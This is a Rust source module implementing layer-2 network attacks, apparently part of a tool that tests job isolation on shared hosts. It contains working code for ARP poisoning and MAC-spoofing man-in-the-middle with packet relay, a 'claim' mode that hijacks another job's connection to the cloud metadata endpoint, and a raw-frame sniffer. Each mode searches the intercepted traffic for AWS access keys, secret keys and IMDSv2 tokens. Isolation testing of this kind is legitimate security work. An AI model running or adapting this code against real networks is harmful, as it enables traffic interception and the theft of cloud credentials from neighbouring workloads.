//! Layer-2 attacks on a job's neighbours: `arp-mitm`, a man in the middle
//! on the bridge (by forged ARP, or by a stolen MAC), and `sniff`, every
//! frame of an interface a `--network host` job can open. Both search what
//! they see for an IMDS answer: credentials, or an IMDSv2 token.

use std::{
    net::Ipv4Addr,
    os::fd::{AsRawFd as _, OwnedFd},
    str::FromStr,
    time::{Duration, Instant},
};

use anyhow::Context as _;
use serde_json::json;

use super::{
    arp_packet, checksum, default_gateway, packet_socket, recv_frame, transport_checksum, Link,
    Mac, ARP_REPLY, ARP_REQUEST, ETHERTYPE_ARP, ETHERTYPE_IPV4, FIN, PSH,
};

/// How `arp-mitm` draws the victim's frames to us.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Method {
    /// Forged ARP to the gateway: the host sends the victim's packets to
    /// our MAC, and we relay them.
    Arp,
    /// Frames from the victim's MAC: the bridge learns it on our port and
    /// sends us what is for it. Nothing is relayed.
    Mac,
}

impl FromStr for Method {
    type Err = ();

    fn from_str(s: &str) -> Result<Self, ()> {
        match s {
            "arp" => Ok(Self::Arp),
            "mac" => Ok(Self::Mac),
            _ => Err(()),
        }
    }
}

impl Method {
    fn name(self) -> &'static str {
        match self {
            Self::Arp => "arp",
            Self::Mac => "mac",
        }
    }

    /// How often the lure goes out. The host keeps a neighbour entry at
    /// least its locktime (1 s) before forged ARP may replace it, and the
    /// victim's own frames teach the bridge its port back at any time.
    fn interval(self) -> Duration {
        match self {
            Self::Arp => Duration::from_millis(100),
            Self::Mac => Duration::from_millis(1),
        }
    }
}

/// Time allowed for asking the gateway's and the victim's MACs.
const RESOLVE_TIME: Duration = Duration::from_secs(4);
/// A read buffer for the largest frame the host hands a veth whole (a GSO
/// TCP segment of up to 64 KiB) with its Ethernet header.
const FRAME_BUFFER: usize = 65536 + 14;
/// How many distinct access key ids the report lists.
const MAX_KEY_IDS: usize = 4;
const IPPROTO_TCP: u8 = libc::IPPROTO_TCP as u8;
const IPPROTO_UDP: u8 = libc::IPPROTO_UDP as u8;

/// What the payloads gave away.
#[derive(Default)]
struct Loot {
    saw_credentials: bool,
    saw_token: bool,
    access_key_ids: Vec<String>,
}

impl Loot {
    /// Searches one payload (a TCP segment's, or a whole frame).
    fn scan(&mut self, data: &[u8]) {
        if find(data, b"SecretAccessKey").is_some() {
            self.saw_credentials = true;
        }
        let mut rest = data;
        while let Some(at) = find(rest, b"AccessKeyId") {
            self.saw_credentials = true;
            rest = &rest[at + b"AccessKeyId".len()..];
            if let Some(id) = json_string_value(rest) {
                if self.access_key_ids.len() < MAX_KEY_IDS && !self.access_key_ids.contains(&id) {
                    self.access_key_ids.push(id);
                }
            }
        }
        if is_token_answer(data) {
            self.saw_token = true;
        }
    }
}

/// Where `needle` first occurs in `data`.
fn find(data: &[u8], needle: &[u8]) -> Option<usize> {
    data.windows(needle.len()).position(|w| w == needle)
}

/// The value of a JSON key whose name `rest` follows: `": "VALUE"`, the
/// value alphanumeric (as an access key id is).
fn json_string_value(rest: &[u8]) -> Option<String> {
    let rest = rest.strip_prefix(b"\"").unwrap_or(rest);
    let rest = rest.trim_ascii_start().strip_prefix(b":")?;
    let rest = rest.trim_ascii_start().strip_prefix(b"\"")?;
    let end = rest.iter().position(|b| !b.is_ascii_alphanumeric())?;
    (end > 0 && rest[end] == b'"').then(|| String::from_utf8_lossy(&rest[..end]).into_owned())
}

/// An HTTP response (a status line, not a request line) carrying the
/// header IMDS sends with a token: `X-aws-ec2-metadata-token-ttl-seconds`.
/// The PUT that asks for a token has the same header, after a request line.
fn is_token_answer(data: &[u8]) -> bool {
    let lower = data.to_ascii_lowercase();
    let status_line = (0..lower.len())
        .find(|&i| lower[i..].starts_with(b"http/1.") && lower.get(i + 8) == Some(&b' '));
    status_line.is_some_and(|at| {
        find(&lower[at..], b"\r\nx-aws-ec2-metadata-token-ttl-seconds:").is_some()
    })
}

/// The TCP payload of an unfragmented IPv4 packet.
fn tcp_payload(packet: &[u8]) -> Option<&[u8]> {
    let (ihl, total) = ipv4_lengths(packet)?;
    if packet[9] != IPPROTO_TCP || is_fragment(packet) {
        return None;
    }
    let tcp = packet.get(ihl..total)?;
    let data_offset = usize::from(tcp.get(12)? >> 4) * 4;
    tcp.get(data_offset..)
}

/// An IPv4 packet's header and total lengths, if they fit what arrived.
fn ipv4_lengths(packet: &[u8]) -> Option<(usize, usize)> {
    let header = packet.get(..20)?;
    let ihl = usize::from(header[0] & 0x0f) * 4;
    let total = usize::from(u16::from_be_bytes([header[2], header[3]]));
    (header[0] >> 4 == 4 && ihl >= 20 && total >= ihl && total <= packet.len())
        .then_some((ihl, total))
}

fn is_fragment(packet: &[u8]) -> bool {
    u16::from_be_bytes([packet[6], packet[7]]) & 0x3fff != 0 // MF + offset
}

/// Fills in the IPv4 header checksum and, in a whole TCP or UDP datagram,
/// the transport checksum. The host hands a veth its packets with the
/// transport checksum left to offload (only the pseudo-header's sum in
/// the field); relayed as they are, the victim would drop them.
fn fill_checksums(packet: &mut [u8]) {
    let ihl = usize::from(packet[0] & 0x0f) * 4;
    packet[10..12].fill(0);
    let sum = checksum(&packet[..ihl]);
    packet[10..12].copy_from_slice(&sum.to_be_bytes());
    // A fragment's transport checksum covers the whole datagram.
    if is_fragment(packet) {
        return;
    }
    let protocol = packet[9];
    let field = match protocol {
        IPPROTO_TCP => 16,
        IPPROTO_UDP => 6,
        _ => return,
    };
    let src = Ipv4Addr::new(packet[12], packet[13], packet[14], packet[15]);
    let dst = Ipv4Addr::new(packet[16], packet[17], packet[18], packet[19]);
    let segment = &mut packet[ihl..];
    if segment.len() < field + 2 || (protocol == IPPROTO_UDP && segment[6..8] == [0, 0]) {
        return; // too short, or UDP without a checksum
    }
    segment[field..field + 2].fill(0);
    let mut sum = transport_checksum(src, dst, protocol, segment);
    if protocol == IPPROTO_UDP && sum == 0 {
        sum = 0xffff; // zero means "no checksum" in UDP
    }
    segment[field..field + 2].copy_from_slice(&sum.to_be_bytes());
}

/// `packet` (a whole IPv4 packet) as packets of at most `mtu` bytes, each
/// with its checksums filled in. A TCP segment the host handed over whole
/// (GSO) is cut at the MSS, as the NIC would have; anything else too big
/// goes as it is, and its send fails.
fn relay_packets(packet: &[u8], mtu: usize) -> Vec<Vec<u8>> {
    let whole = |p: &[u8]| {
        let mut p = p.to_vec();
        fill_checksums(&mut p);
        vec![p]
    };
    if packet.len() <= mtu || packet[9] != IPPROTO_TCP || is_fragment(packet) {
        return whole(packet);
    }
    let ihl = usize::from(packet[0] & 0x0f) * 4;
    let Some(&offset_byte) = packet.get(ihl + 12) else {
        return whole(packet);
    };
    let headers = ihl + usize::from(offset_byte >> 4) * 4;
    let Some(mss) = mtu.checked_sub(headers).filter(|&m| m > 0) else {
        return whole(packet);
    };
    let Some(payload) = packet.get(headers..) else {
        return whole(packet);
    };
    let id = u16::from_be_bytes([packet[4], packet[5]]);
    let seq = u32::from_be_bytes(packet[ihl + 4..ihl + 8].try_into().unwrap());
    let chunks = payload.len().div_ceil(mss);
    payload
        .chunks(mss)
        .enumerate()
        .map(|(i, chunk)| {
            let mut p = Vec::with_capacity(headers + chunk.len());
            p.extend_from_slice(&packet[..headers]);
            p.extend_from_slice(chunk);
            let len = p.len() as u16;
            p[2..4].copy_from_slice(&len.to_be_bytes());
            p[4..6].copy_from_slice(&id.wrapping_add(i as u16).to_be_bytes());
            let seq = seq.wrapping_add((i * mss) as u32);
            p[ihl + 4..ihl + 8].copy_from_slice(&seq.to_be_bytes());
            if i + 1 < chunks {
                p[ihl + 13] &= !(FIN | PSH); // only the last segment ends it
            }
            fill_checksums(&mut p);
            p
        })
        .collect()
}

/// The IPv4 address of `iface` in the caller's network namespace.
fn interface_ipv4(iface: &str) -> anyhow::Result<Ipv4Addr> {
    nix::ifaddrs::getifaddrs()
        .context("getifaddrs")?
        .filter(|ifa| ifa.interface_name == iface)
        .find_map(|ifa| Some(ifa.address?.as_sockaddr_in()?.ip()))
        .with_context(|| format!("no IPv4 address on interface {iface}"))
}

/// The MTU of `iface`, asked through the socket `fd` (any socket will do).
fn interface_mtu(fd: &OwnedFd, iface: &str) -> anyhow::Result<usize> {
    // SAFETY: ifreq is plain old data, for which all zeroes is a valid
    // value.
    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
    // The name stays NUL-terminated: at most IFNAMSIZ - 1 bytes go in.
    for (to, from) in request
        .ifr_name
        .iter_mut()
        .zip(iface.bytes().take(libc::IFNAMSIZ - 1))
    {
        *to = from as libc::c_char;
    }
    // SAFETY: SIOCGIFMTU reads the name from and writes the MTU into the
    // ifreq it is given, which is valid and outlives the call.
    let done = unsafe { libc::ioctl(fd.as_raw_fd(), libc::SIOCGIFMTU as _, &raw mut request) };
    if done != 0 {
        return Err(std::io::Error::last_os_error()).context(format!("SIOCGIFMTU on {iface}"));
    }
    // SAFETY: SIOCGIFMTU succeeded, so the union holds the MTU.
    let mtu = unsafe { request.ifr_ifru.ifru_mtu };
    usize::try_from(mtu).with_context(|| format!("MTU {mtu} of {iface}"))
}

/// What `arp-mitm` did; it becomes the JSON report.
struct MitmReport {
    method: Method,
    /// The kernel refused the AF_PACKET socket (nothing was sent).
    socket_error: Option<String>,
    /// Why the attack stopped short (a MAC nobody gave, a failed read).
    error: Option<String>,
    gateway_mac: Option<[u8; 6]>,
    victim_mac: Option<[u8; 6]>,
    /// Forged frames sent: ARP in `arp` mode, frames from the victim's
    /// MAC in `mac` mode.
    poison_frames: u64,
    /// Sends that failed, forged or relayed; the first one's error.
    send_errors: u64,
    first_send_error: Option<String>,
    /// Frames for the victim's address that came to our MAC, and went on
    /// to the victim's (`arp` mode).
    relayed_frames: u64,
    /// Frames for the victim's MAC that came to us (`mac` mode's catch;
    /// in `arp` mode, only what the bridge floods).
    frames_for_victim: u64,
    loot: Loot,
}

impl MitmReport {
    fn json(&self) -> serde_json::Value {
        let mac = |m: Option<[u8; 6]>| m.map(|m| Mac(m).to_string());
        json!({
            "mode": "arp-mitm",
            "method": self.method.name(),
            "socket_error": self.socket_error,
            "error": self.error,
            "gateway_mac": mac(self.gateway_mac),
            "victim_mac": mac(self.victim_mac),
            "poison_frames": self.poison_frames,
            "send_errors": self.send_errors,
            "first_send_error": self.first_send_error,
            "relayed_frames": self.relayed_frames,
            "frames_for_victim": self.frames_for_victim,
            "saw_credentials": self.loot.saw_credentials,
            "saw_token": self.loot.saw_token,
            "access_key_ids": self.loot.access_key_ids,
        })
    }

    /// Counts a send that `sent` says failed.
    fn sent(&mut self, sent: bool) -> bool {
        if !sent {
            self.send_errors += 1;
        }
        sent
    }
}

/// The addresses of one party on the bridge.
#[derive(Clone, Copy)]
struct Party {
    ip: Ipv4Addr,
    mac: [u8; 6],
}

/// A man in the middle between `victim` and the gateway of `iface`, for
/// `duration`. Nothing is restored at the end.
pub(super) fn arp_mitm(
    iface: &str,
    victim: Ipv4Addr,
    duration: Duration,
    method: Method,
) -> anyhow::Result<serde_json::Value> {
    let gateway = default_gateway(iface)?;
    let own_ip = interface_ipv4(iface)?;
    let mut report = MitmReport {
        method,
        socket_error: None,
        error: None,
        gateway_mac: None,
        victim_mac: None,
        poison_frames: 0,
        send_errors: 0,
        first_send_error: None,
        relayed_frames: 0,
        frames_for_victim: 0,
        loot: Loot::default(),
    };
    // The MACs are asked for from our own address and MAC, as anyone may.
    let mut link = match Link::open(iface, own_ip, victim, Instant::now() + RESOLVE_TIME)? {
        Ok(link) => link,
        Err(e) => {
            report.socket_error = Some(e);
            return Ok(report.json());
        }
    };
    let mtu = interface_mtu(&link.fd, iface)?;
    let resolve = |link: &mut Link, who: &str, ip: Ipv4Addr| match link.resolve(ip) {
        Ok(Some(mac)) => Ok(Party { ip, mac }),
        Ok(None) => Err(format!("{who} {ip} did not answer ARP")),
        Err(e) => Err(format!("resolving {who} {ip}: {e}")),
    };
    let parties = resolve(&mut link, "gateway", gateway).and_then(|gateway| {
        report.gateway_mac = Some(gateway.mac);
        let victim = resolve(&mut link, "victim", victim)?;
        report.victim_mac = Some(victim.mac);
        Ok((gateway, victim))
    });
    match parties {
        Ok((gateway, victim)) => {
            if let Err(e) = intercept(&mut link, gateway, victim, duration, mtu, &mut report) {
                report.error = Some(format!("reading the packet socket: {e}"));
            }
        }
        Err(e) => report.error = Some(e),
    }
    report.first_send_error = link.send_error.map(|e| e.to_string());
    Ok(report.json())
}

/// The attack proper: the lure every interval, and every frame read in
/// between relayed or searched.
fn intercept(
    link: &mut Link,
    gateway: Party,
    victim: Party,
    duration: Duration,
    mtu: usize,
    report: &mut MitmReport,
) -> nix::Result<()> {
    let interval = report.method.interval();
    let end = Instant::now() + duration;
    let mut next_lure = Instant::now();
    let mut buf = vec![0u8; FRAME_BUFFER];
    while Instant::now() < end {
        if Instant::now() >= next_lure {
            lure(link, gateway, victim, report);
            // After a stall, go on from now rather than in a burst.
            next_lure = (next_lure + interval).max(Instant::now());
        }
        let Some((n, from)) = recv_frame(&link.fd, &mut buf, next_lure.min(end))? else {
            continue;
        };
        // Our own frames (relays included) come back as outgoing ones.
        if from.pkttype() == libc::PACKET_OUTGOING || from.ifindex() != link.ifindex {
            continue;
        }
        let Some(frame) = buf.get(..n).filter(|f| f.len() >= 14) else {
            continue;
        };
        let packet = &frame[14..];
        let is_ipv4 = frame[12..14] == ETHERTYPE_IPV4.to_be_bytes();
        if frame[..6] == victim.mac {
            report.frames_for_victim += 1;
            if is_ipv4 {
                report.loot.scan(tcp_payload(packet).unwrap_or_default());
            }
        } else if report.method == Method::Arp
            && frame[..6] == link.mac
            && is_ipv4
            && packet.get(16..20) == Some(&victim.ip.octets())
        {
            let Some((_, total)) = ipv4_lengths(packet) else {
                continue;
            };
            // Without what Ethernet padded short frames with.
            let packet = &packet[..total];
            report.loot.scan(tcp_payload(packet).unwrap_or_default());
            for relayed in relay_packets(packet, mtu) {
                let sent = link.send_frame(victim.mac, ETHERTYPE_IPV4, &relayed);
                if report.sent(sent) {
                    report.relayed_frames += 1;
                }
            }
        }
    }
    Ok(())
}

/// One round of the lure. `arp`: an ARP request and an ARP reply to the
/// gateway, each saying the victim's address is at our MAC (a request for
/// the host's own address updates its entry for the sender as well), and a
/// gratuitous request for the victim's address.
/// `mac`: an ordinary ARP request for the gateway from our address, in a
/// frame from the victim's MAC, sent to the gateway alone.
fn lure(link: &mut Link, gateway: Party, victim: Party, report: &mut MitmReport) {
    let sent = match report.method {
        Method::Arp => {
            let forged = (link.mac, victim.ip);
            let request = arp_packet(ARP_REQUEST, forged, ([0; 6], gateway.ip));
            let reply = arp_packet(ARP_REPLY, forged, (gateway.mac, gateway.ip));
            // And a gratuitous one (sender and target both the victim's
            // address), which the host takes whatever its locktime: the
            // victim's own ARP cannot win the entry back for a second.
            let garp = arp_packet(ARP_REQUEST, forged, ([0; 6], victim.ip));
            let request = link.send_frame(gateway.mac, ETHERTYPE_ARP, &request);
            let reply = link.send_frame(gateway.mac, ETHERTYPE_ARP, &reply);
            let garp = link.send_frame(gateway.mac, ETHERTYPE_ARP, &garp);
            [report.sent(request), report.sent(reply), report.sent(garp)]
                .into_iter()
                .filter(|&s| s)
                .count()
        }
        Method::Mac => {
            let request = arp_packet(ARP_REQUEST, (link.mac, link.spoof), ([0; 6], gateway.ip));
            let sent = link.send_frame_from(victim.mac, gateway.mac, ETHERTYPE_ARP, &request);
            usize::from(report.sent(sent))
        }
    };
    report.poison_frames += sent as u64;
}

/// How long `claim` poisons before it connects: the host's neighbour
/// entry takes a forged update only a second (locktime) after its last.
const CLAIM_POISON: Duration = Duration::from_millis(2500);
/// How long `claim` waits for the slot.
const CLAIM_WAIT: Duration = Duration::from_secs(10);
/// How long `claim`'s one exchange may take.
const CLAIM_EXCHANGE: Duration = Duration::from_secs(5);

/// Another job's pending connect, taken with packets alone (see the
/// `claim` mode): the victim's address is ours for the host, and the
/// connection to the victim's slot comes from it.
pub(super) fn claim(
    iface: &str,
    victim: Ipv4Addr,
    dst: Ipv4Addr,
    path: &str,
) -> anyhow::Result<serde_json::Value> {
    let gateway = default_gateway(iface)?;
    let deadline = Instant::now() + RESOLVE_TIME + CLAIM_POISON + CLAIM_WAIT + CLAIM_EXCHANGE;
    let mut report = MitmReport {
        method: Method::Arp,
        socket_error: None,
        error: None,
        gateway_mac: None,
        victim_mac: None,
        poison_frames: 0,
        send_errors: 0,
        first_send_error: None,
        relayed_frames: 0,
        frames_for_victim: 0,
        loot: Loot::default(),
    };
    // Every ARP request for the victim's address is answered as ours.
    let mut link = match Link::open(iface, victim, dst, deadline)? {
        Ok(link) => link,
        Err(e) => {
            report.socket_error = Some(e);
            return Ok(json!({ "mode": "claim", "socket_error": report.socket_error }));
        }
    };
    let gateway = match link.resolve(gateway) {
        Ok(Some(mac)) => Party { ip: gateway, mac },
        _ => anyhow::bail!("gateway {gateway} did not answer ARP"),
    };
    let victim = Party {
        ip: victim,
        mac: [0; 6],
    };
    let end = Instant::now() + CLAIM_POISON;
    while Instant::now() < end {
        lure(&mut link, gateway, victim, &mut report);
        let _ = link.recv(Instant::now() + Duration::from_millis(100));
    }
    // Poisoned: now the victim's slot, once it is pending.
    println!("{}", json!({ "poisoned": report.poison_frames }));
    let mut line = String::new();
    std::io::stdin()
        .read_line(&mut line)
        .context("reading the slot")?;
    let port: u16 = line.trim().parse().context("the slot")?;
    let dst = std::net::SocketAddrV4::new(dst, port);
    let request =
        format!("GET {path} HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n");
    let exchange = super::tcp_exchange(&mut link, gateway.mac, dst, request.as_bytes());
    report.loot.scan(&exchange.response);
    let response = super::parse_response(&exchange.response);
    Ok(json!({
        "mode": "claim",
        "poison_frames": report.poison_frames,
        "connected": exchange.connected,
        "error": exchange.error,
        "status": response.as_ref().map(|r| r.status),
        "body": response.map(|r| r.body),
        "saw_credentials": report.loot.saw_credentials,
        "access_key_ids": report.loot.access_key_ids,
    }))
}

/// Every frame of `iface`, both ways, for `duration`, searched whole.
pub(super) fn sniff(iface: &str, duration: Duration) -> anyhow::Result<serde_json::Value> {
    let ifindex =
        nix::net::if_::if_nametoindex(iface).with_context(|| format!("no interface {iface}"))?;
    let report = |socket_error: Option<String>, error: Option<String>, frames: u64, loot: &Loot| {
        json!({
            "mode": "sniff",
            "socket_error": socket_error,
            "error": error,
            "frames": frames,
            "saw_credentials": loot.saw_credentials,
            "saw_token": loot.saw_token,
            "access_key_ids": loot.access_key_ids,
        })
    };
    let mut loot = Loot::default();
    let fd = match packet_socket(ifindex) {
        Ok(fd) => fd,
        Err(e) => return Ok(report(Some(e), None, 0, &loot)),
    };
    let end = Instant::now() + duration;
    let mut buf = vec![0u8; FRAME_BUFFER];
    let mut frames = 0;
    loop {
        match recv_frame(&fd, &mut buf, end) {
            // Frames of other interfaces can be queued before bind().
            Ok(Some((n, from))) if from.ifindex() == ifindex as usize => {
                frames += 1;
                loot.scan(&buf[..n]);
            }
            Ok(Some(_)) => {}
            Ok(None) => return Ok(report(None, None, frames, &loot)),
            Err(e) => {
                let error = format!("reading the packet socket: {e}");
                return Ok(report(None, Some(error), frames, &loot));
            }
        }
    }
}
